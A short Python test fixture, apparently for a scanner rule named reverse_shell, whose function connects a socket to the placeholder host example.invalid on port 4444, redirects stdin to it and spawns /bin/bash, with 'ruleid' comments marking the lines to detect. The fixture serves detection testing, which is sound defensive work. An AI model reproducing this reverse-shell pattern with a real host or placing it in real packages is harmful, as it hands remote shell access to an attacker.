# canary-test: path=mypkg/rs.py artifact=wheel
# Every member of python.reverse_shell (reserved host).
import os
import pty
import socket


def shell():
    s = socket.socket()
    s.connect(("example.invalid", 4444))
    # The connect-then-dup2 regex reports where the match ends.
    # ruleid: reverse_shell
    os.dup2(s.fileno(), 0)
    # ruleid: reverse_shell
    pty.spawn("/bin/bash")


